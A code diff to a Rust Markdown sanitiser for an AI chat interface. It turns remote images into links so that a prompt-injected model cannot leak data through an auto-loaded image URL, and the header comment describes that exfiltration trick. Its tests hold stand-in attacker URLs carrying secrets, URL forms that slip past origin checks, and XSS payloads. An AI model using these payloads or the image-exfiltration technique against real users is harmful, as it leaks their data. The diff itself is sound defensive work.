@@ -2,16 +2,51 @@
 //! in the source escaped as text, then ammonia keeps only harmless tags, attributes and URL
 //! schemes. Nothing the model writes can put a script, an event handler or a `javascript:` URL
 //! into the page. Runs the same on the server (history) and in the browser (streaming).
+//!
+//! Nor can it make the browser fetch anything from elsewhere: an image is shown only when it is
+//! on our own origin or inline (`data:image/…`). Any other image becomes a link showing its alt
+//! text and URL, followed only if the user clicks it — a prompt-injected model could otherwise
+//! send what it read to `![x](https://attacker/?d=…)` with no click. (The page's CSP forbids
+//! such images too; this keeps them readable instead of broken.)
 
-use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
+use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};
+use url::Url;
 
 /// Renders Markdown to sanitised HTML. Code blocks are highlighted and get a copy button.
 pub fn render(markdown: &str) -> String {
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let mut events = Vec::new();
     let mut code: Option<(String, String)> = None;
+    let mut remote: Option<RemoteImage> = None;
+    let mut links = 0_usize;
     for event in Parser::new_ext(markdown, options) {
+        if let Some(image) = &mut remote {
+            match event {
+                Event::Start(Tag::Image { .. }) => image.nested += 1,
+                Event::End(TagEnd::Image) if image.nested > 0 => image.nested -= 1,
+                Event::End(TagEnd::Image) => {
+                    if let Some(image) = remote.take() {
+                        image.push_as_link(&mut events, links > 0);
+                    }
+                }
+                Event::Text(text) | Event::Code(text) => image.alt.push_str(&text),
+                Event::SoftBreak | Event::HardBreak => image.alt.push(' '),
+                _ => {}
+            }
+            continue;
+        }
         match (event, &mut code) {
+            (Event::Start(Tag::Image { dest_url, .. }), None) if !is_local_image(&dest_url) => {
+                remote = Some(RemoteImage { url: dest_url.into_string(), alt: String::new(), nested: 0 });
+            }
+            (event @ Event::Start(Tag::Link { .. }), None) => {
+                links += 1;
+                events.push(event);
+            }
+            (event @ Event::End(TagEnd::Link), None) => {
+                links = links.saturating_sub(1);
+                events.push(event);
+            }
             (Event::Start(Tag::CodeBlock(kind)), _) => {
                 let language = match kind {
                     CodeBlockKind::Fenced(info) => {
@@ -41,10 +76,67 @@ pub fn code(language: &str, code: &str) -> String {
     clean(&highlight::block(language, code))
 }
 
+/// An image from elsewhere, being collected to be shown as a link.
+struct RemoteImage {
+    url: String,
+    alt: String,
+    /// Images inside its alt text (they are text there).
+    nested: usize,
+}
+
+impl RemoteImage {
+    /// `alt (url)` as a link to the image (as plain text inside another link). An image whose
+    /// URL is not absolute http(s) (`javascript:`, `//host/…`) leaves only its alt text.
+    fn push_as_link(self, events: &mut Vec<Event<'_>>, inside_a_link: bool) {
+        let alt = self.alt.trim();
+        let web = Url::parse(&self.url).is_ok_and(|url| matches!(url.scheme(), "http" | "https"));
+        if !web {
+            events.push(Event::Text(CowStr::from(if alt.is_empty() { "(image)" } else { alt }.to_owned())));
+            return;
+        }
+        let label = if alt.is_empty() { self.url.clone() } else { format!("{alt} ({})", self.url) };
+        if inside_a_link {
+            events.push(Event::Text(CowStr::from(label)));
+            return;
+        }
+        events.push(Event::Start(Tag::Link {
+            link_type: LinkType::Inline,
+            dest_url: CowStr::from(self.url),
+            title: CowStr::from("Image from another site, not loaded"),
+            id: CowStr::from(""),
+        }));
+        events.push(Event::Text(CowStr::from(label)));
+        events.push(Event::End(TagEnd::Link));
+    }
+}
+
+/// Whether the page may load an image from `url`: inline image data, or a URL that resolves
+/// (the way a browser resolves it: tabs and newlines dropped, `\` read as `/`) to our own origin.
+pub fn is_local_image(url: &str) -> bool {
+    match Url::parse(url) {
+        Ok(parsed) => is_data_image(&parsed),
+        Err(url::ParseError::RelativeUrlWithoutBase) => {
+            let Ok(base) = Url::parse("https://jarvis.invalid/app") else { return false };
+            base.join(url).is_ok_and(|resolved| resolved.origin() == base.origin())
+        }
+        Err(_) => false,
+    }
+}
+
+fn is_data_image(url: &Url) -> bool {
+    url.scheme() == "data" && url.path().get(..6).is_some_and(|kind| kind.eq_ignore_ascii_case("image/"))
+}
+
 /// Keeps only harmless tags, attributes and URL schemes, then adds our own markup around code.
 fn clean(unsafe_html: &str) -> String {
     let clean = ammonia::Builder::default()
-        .url_schemes(["http", "https", "mailto"].into_iter().collect())
+        // `data:` only for an image's inline bytes (the filter below drops it everywhere else).
+        .url_schemes(["http", "https", "mailto", "data"].into_iter().collect())
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            ("img", "src") => is_local_image(value).then(|| value.into()),
+            _ if Url::parse(value).is_ok_and(|url| url.scheme() == "data") => None,
+            _ => Some(value.into()),
+        })
         .link_rel(Some("noopener noreferrer nofollow"))
         .add_tag_attributes("code", ["class"])
         .add_tag_attributes("span", ["class"])
@@ -227,6 +319,45 @@ pub(crate) mod tests {
     }
 
     #[test]
+    fn a_remote_image_becomes_a_link_and_a_local_or_inline_one_stays() {
+        let html = render("Look: ![the chart](https://attacker.example/p.png?d=secret \"t\") here");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains(r#"href="https://attacker.example/p.png?d=secret""#), "{html}");
+        assert!(html.contains(">the chart (https://attacker.example/p.png?d=secret)</a>"), "{html}");
+        assert!(html.contains("noopener"), "{html}");
+
+        // Forms a browser reads as another host are links too.
+        // (In Markdown, `\\` is one backslash.)
+        for url in [
+            "//attacker.example/p.png",
+            "/\t/attacker.example/p.png",
+            r"\\\\attacker.example/p.png",
+            r"/\\attacker.example/p.png",
+            "http://127.0.0.1:9/p.png",
+        ] {
+            let html = render(&format!("![x]({url})"));
+            assert!(!html.contains("<img"), "{url}: {html}");
+        }
+        // Inside a link it is plain text (no link in a link); in the alt text of an image, text.
+        let html = render("[![logo](https://attacker.example/l.png)](https://example.com)");
+        assert!(!html.contains("<img"), "{html}");
+        assert_eq!(html.matches("<a ").count(), 1, "{html}");
+        let html = render("![a ![b](https://x.example/b.png) c](https://y.example/a.png)");
+        assert!(!html.contains("<img") && html.contains("y.example/a.png"), "{html}");
+
+        let local = render("![plot](/api/files/0b5e4a7e-0000-4000-8000-000000000000)");
+        assert!(
+            local.contains(r#"<img src="/api/files/0b5e4a7e-0000-4000-8000-000000000000" alt="plot">"#),
+            "{local}"
+        );
+        let inline = render("![dot](data:image/png;base64,iVBORw0KGgo=)");
+        assert!(inline.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"#), "{inline}");
+        // `data:` stays only on an image, and only image data.
+        assert!(!render("![x](data:text/html;base64,PHNjcmlwdD4=)").contains("<img"));
+        assert!(!render("[x](data:image/png;base64,iVBORw0KGgo=)").contains("data:"));
+    }
+
+    #[test]
     fn links_keep_safe_schemes_and_gain_rel() {
         let html = render("[site](https://example.com)");
         assert!(html.contains(r#"href="https://example.com""#), "{html}");
@@ -245,6 +376,9 @@ pub(crate) mod tests {
         "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "[click](vbscript:msgbox(1))",
         "![x](javascript:alert(1))",
+        "![x](https://attacker.example/?d=secret)",
+        "![x](//attacker.example/p.png)",
+        "<img src=\"https://attacker.example/p.png\">",
         "<iframe src=\"https://evil.example\"></iframe>",
         "<div style=\"background:url(javascript:alert(1))\">x</div>",
         "<details open ontoggle=alert(1)>",
@@ -288,17 +422,20 @@ pub(crate) mod tests {
                 let names: String = tag.split('"').step_by(2).collect();
                 assert!(!names.contains(" on") && !names.contains("style="), "{payload} → <{tag}>");
                 // URL values.
-                for attribute in ["href=\"", "src=\""] {
-                    if let Some(value) = tag.split(attribute).nth(1).and_then(|rest| rest.split('"').next()) {
-                        let value = value.trim();
-                        assert!(
-                            value.starts_with("http://")
-                                || value.starts_with("https://")
-                                || value.starts_with("mailto:")
-                                || value.starts_with('#'),
-                            "{payload} → <{tag}>"
-                        );
-                    }
+                if let Some(value) = tag.split("href=\"").nth(1).and_then(|rest| rest.split('"').next()) {
+                    let value = value.trim();
+                    assert!(
+                        value.starts_with("http://")
+                            || value.starts_with("https://")
+                            || value.starts_with("mailto:")
+                            || value.starts_with('#'),
+                        "{payload} → <{tag}>"
+                    );
+                }
+                // Images only from our own origin or inline image data: nothing is fetched
+                // from elsewhere.
+                if let Some(value) = tag.split("src=\"").nth(1).and_then(|rest| rest.split('"').next()) {
+                    assert!(is_local_image(value.trim()), "{payload} → <{tag}>");
                 }
             }
         }
